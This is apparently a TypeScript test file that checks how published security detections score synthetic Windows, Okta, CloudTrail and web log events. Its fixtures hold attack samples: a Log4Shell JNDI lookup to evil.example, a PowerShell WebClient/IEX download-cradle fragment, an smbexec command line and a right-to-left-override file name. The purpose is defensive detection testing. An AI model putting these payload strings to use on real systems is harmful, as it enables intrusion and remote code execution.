/** eval and where as published detections write them: literals where fields were meant, regular expressions, scores. */
import { describe, expect, test } from 'vitest'
import type { Bench } from './bench.ts'
import { event, type Fields, processEvent, sysmonEvent, windowsEvent } from './events.ts'

export function calculationsCases(bench: Bench): void {
  describe('calculations', () => {
    const shell = (process: string, more: Fields = {}): ReturnType<typeof processEvent> =>
      processEvent({ process, process_name: 'cmd.exe', parent_process_name: 'services.exe', ...more })

    test('28: a double-quoted target, a literal where a field was meant, times of fields that are not there', async () => {
      const logon = (code: number, TargetUserName: string, more: Fields = {}) =>
        windowsEvent('security', code, {
          SubjectUserName: 'PSWA_Pool',
          TargetUserName,
          TargetDomainName: 'CORP',
          Computer: 'iis-01',
          ProcessName: 'C:\\Windows\\w3wp.exe',
          TargetServerName: 'dc-01',
          LogonType: '3',
          ...more,
        })
      await bench.start([
        logon(4648, 'mia'),
        logon(4648, 'leo'),
        logon(4624, 'mia'),
        logon(4625, 'eve', { TargetDomainName: 'OTHER' }),
        logon(4634, 'ann'),
        logon(4625, 'bob', { SubjectUserName: 'other' }),
      ])
      expect(await bench.rows('endpoint/windows_identify_powershell_web_access_iis_pool')).toEqual([
        {
          PSWA_Running: 'Yes',
          'PSWA Host': 'iis-01',
          'PSWA Process': 'PSWA Process',
          'Connection Attempts': 2,
          'Successful Logons': 1,
          'Unsuccessful Logons': 1,
          'Unique Target Accounts': 3,
          'Unique Target Domains': 2,
          'Target Users List': ['eve', 'leo', 'mia'],
          'Target Servers List': null,
          'Logon Types': '3',
        },
      ])
    })

    test('29: two literals compared, mvfilter with LIKE, values(*) beside aggregates of their own, a bare NULL', async () => {
      const request = (app: string, fields: Fields) =>
        event(
          { sourcetype: 'OktaIM2:log' },
          {
            'target{}.type': ['AppInstance', 'User'],
            'target{}.displayName': [app, 'Mia'],
            'authenticationContext.externalSessionId': 's1',
            'actor.alternateId': 'mia@corp.example',
            'client.ipAddress': '198.51.100.7',
            ...fields,
          },
        )
      const challenged = { eventType: 'policy.evaluate_sign_on', 'outcome.result': 'CHALLENGE' }
      const opened = { eventType: 'user.authentication.sso', 'outcome.result': 'SUCCESS' }
      const other = { 'authenticationContext.externalSessionId': 's2' }
      await bench.start([
        ...['Mail', 'Wiki', 'Pay'].flatMap((app) => [request(app, challenged), request(app, challenged)]),
        request('Wiki', opened),
        ...['Mail', 'Wiki'].map((app) => request(app, { ...challenged, ...other })),
        request('Pay', { ...challenged, 'outcome.result': 'ALLOW', ...other }),
        request('Pay', { ...challenged, 'target{}.type': ['User', 'User'], ...other }),
      ])
      const rows = await bench.rows('application/okta_multiple_failed_requests_to_access_applications')
      expect(rows).toHaveLength(1)
      expect(rows[0]).toMatchObject({
        'authenticationContext.externalSessionId': 's1',
        'actor.alternateId': 'mia@corp.example',
        total_challenges: 3,
        total_successes: 1,
        success_apps: '0',
        no_success_apps: ['AppInstance: Mail', 'AppInstance: Pay', 'AppInstance: Wiki'],
        'outcome.result': ['CHALLENGE', 'SUCCESS'],
        ratio: 0.33,
        severity: 'HIGH',
        description:
          'actor.alternateId from client.ipAddress seen opening 3 chiclets/apps with 1 challenges successfully passed',
      })
      expect(rows[0]).not.toHaveProperty('targets')
    })

    test('30: a backtick and an apostrophe are text, and a condition follows the filter macro', async () => {
      const powershell = (process: string) => shell(process, { process_name: 'powershell.exe' })
      await bench.start([
        powershell(`a${'`'.repeat(4)}b${'^'.repeat(4)}c${"'".repeat(3)}`),
        powershell(`a${'`'.repeat(4)}b${'^'.repeat(4)}c${"'".repeat(2)}`),
      ])
      const rows = await bench.rows('endpoint/malicious_powershell_process_with_obfuscation_techniques')
      expect(rows.map((row) => [row.num_obfuscation, row.process])).toEqual([[11, "a````b^^^^c'''"]])
    })

    test('33: eighteen scores, some of them texts and some numbers, added up', async () => {
      const script = (ScriptBlockText: string) =>
        event(
          { source: 'XmlWinEventLog:Microsoft-Windows-PowerShell/Operational' },
          { EventCode: '4104', ScriptBlockText, UserID: 'S-1-5-18', Computer: 'ws-01' },
        )
      await bench.start([
        script('$DoIt; Invoke-Expression; rundll32; Get-Item'),
        script('IEX (New-Object System.Net.WebClient).x([Convert]::FromBase64String)'),
        script('Write-Host done'),
      ])
      const rows = await bench.rows('endpoint/powershell_4104_hunting')
      expect(rows.map((row) => row['values(Score)'])).toEqual(['0', '16', '11'])
      expect(rows[2]).toMatchObject({ dest: 'ws-01', user: 'S-1-5-18', DoIt: '4', iex: 2, rundll32: '4', get: '1' })
      expect(rows[2]).toMatchObject({ mimikatz: 0, enccom: 0, suspkeywrd: 0 })
      expect(rows[1]).toMatchObject({ DoIt: '0', empire: 5, base64: '4', webclient: 5, iex: 2 })
    })

    test('34: braces and line breaks in regular expressions over the raw text, a total with a comma too many', async () => {
      const request = (_raw: string) =>
        event({ tag: ['web'] }, { _raw, dest: 'web-01', src: '198.51.100.7', http_method: 'GET' })
      await bench.start([
        request('GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1'),
        request('GET /?x=%24%7Bjndi:dns://x HTTP/1.1'),
        request('GET /index.html HTTP/1.1'),
      ])
      const rows = await bench.rows('web/hunting_for_log4shell')
      const scores = rows.map((row) => [
        row.jndi,
        row.jndi_proto,
        row.jndi_fastmatch,
        row.all_match,
        row.obf,
        row.env_var,
      ])
      expect(new Map(rows.map(({ _raw }, at) => [String(_raw).slice(0, 12), scores[at]]))).toEqual(
        new Map([
          ['GET /?x=${jn', [4, 5, 2, 5, 5, 0]],
          ['GET /?x=%24%', [4, 5, 2, 5, 0, 0]],
        ]),
      )
      expect(rows.map((row) => row['values(Score)']).sort()).toEqual(['16', '21'])
      expect(rows[0]).toMatchObject({ dest: 'web-01', src: '198.51.100.7', http_method: 'GET' })
    })

    test('39: an asterisk in where is an asterisk', async () => {
      const version = (policyDocument: object, more: Fields = {}) =>
        event(
          { sourcetype: 'aws:cloudtrail' },
          {
            eventName: 'CreatePolicyVersion',
            eventSource: 'iam.amazonaws.com',
            errorCode: 'success',
            'requestParameters.policyDocument': JSON.stringify(policyDocument),
            aws_account_id: '1',
            userAgent: 'cli',
            eventID: 'e1',
            awsRegion: 'eu-1',
            user: 'mia',
            user_arn: 'arn',
            ...more,
          },
        )
      const statement = (Action: unknown) => ({ Effect: 'Allow', Action, Resource: '*' })
      await bench.start([
        version({ Statement: [statement('*'), statement('s3:*')] }),
        version({ Statement: [statement('s3:*')] }, { user: 'leo' }),
        version({ Statement: [statement('*')] }, { user: 'eve', errorCode: 'AccessDenied' }),
      ])
      const rows = await bench.rows('cloud/aws_create_policy_version_to_allow_all_resources')
      expect(rows).toMatchObject([{ user: 'mia', count: 1, policy_added: JSON.stringify(statement('*')) }])
    })

    test('40: two and four backslashes in regular expressions', async () => {
      const command = (folder: string) =>
        `cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > ${folder}\\abc.bat & cmd.exe /Q /c x`
      await bench.start([
        shell(command('C:\\Windows')),
        shell(command('C:\\\\Windows\\')),
        shell(command('D:\\Windows')),
        shell(command('C:\\Windows').replace('\\\\127.0.0.1\\', '\\\\10.0.0.1\\')),
      ])
      const rows = await bench.rows('endpoint/impacket_lateral_movement_smbexec_commandline_parameters')
      expect(rows.map(({ process }) => process)).toEqual([command('C:\\Windows')])
    })

    test('45: a character by its number, a full stop between fields, a pattern of names to take away', async () => {
      const file = (file_name: string) =>
        event(
          { tag: ['endpoint', 'filesystem'] },
          {
            file_name,
            file_path: `C:\\${file_name}`,
            dest: 'ws-01',
            user: 'mia',
            process_id: '4',
            file_create_time: '9',
          },
        )
      await bench.start([file('invoice\u202Efdp.exe'), file('invoice.pdf'), file('unknown')])
      expect(await bench.rows('endpoint/detect_rtlo_in_file_name')).toMatchObject([
        { file_name: 'invoicefdp.exe', file_name_with_RTLO: 'invoice\u202Efdp.exe', file_create_time: '9' },
      ])
      expect(Object.keys((await bench.rows('endpoint/detect_rtlo_in_file_name'))[0]!)).not.toContain('RTLO_file_1')
    })

    test('46: pipes and an escaped quote in a regex; groups that need not match take the place of a field', async () => {
      const opened = (process: string, action = 'allowed') =>
        shell(process, { action, process_name: 'explorer.exe', parent_process: 'explorer' })
      await bench.start([
        opened('"C:\\Users\\mia\\Downloads\\report.zip\\inner\\evil.EXE"'),
        opened('C:\\Users\\mia\\a.iso\\run.'),
        opened('C:\\Users\\mia\\a.iso\\readme.txt'),
        opened('C:\\Users\\mia\\b.zip\\run.js', 'blocked'),
      ])
      const rows = await bench.rows('endpoint/suspicious_process_executed_from_container_file')
      expect(rows.map((row) => [row.file_name, row.process_name])).toEqual([
        ['report.zip', 'evil.EXE'],
        ['a.iso', 'run.'],
      ])
    })

    test('49: a class that closes behind three backslashes', async () => {
      const start = (ParentUser: string, IntegrityLevel = 'System') =>
        sysmonEvent(1, {
          IntegrityLevel,
          ParentUser,
          dest: 'ws-01',
          user: 'SYSTEM',
          process_name: 'cmd.exe',
          parent_process_name: 'p.exe',
          parent_process_guid: '{g}',
        })
      await bench.start([
        start('CORP\\mia'),
        start('NT AUTHORITY\\SYSTEM'),
        start('CORP\\WS-01$'),
        start('-'),
        start('CORP\\leo', 'High'),
      ])
      const rows = await bench.rows('endpoint/windows_privilege_escalation_system_process_without_system_parent')
      expect(rows).toMatchObject([{ src_user: 'mia', user: 'SYSTEM', process_name: 'cmd.exe', count: 1 }])
    })
  })
}
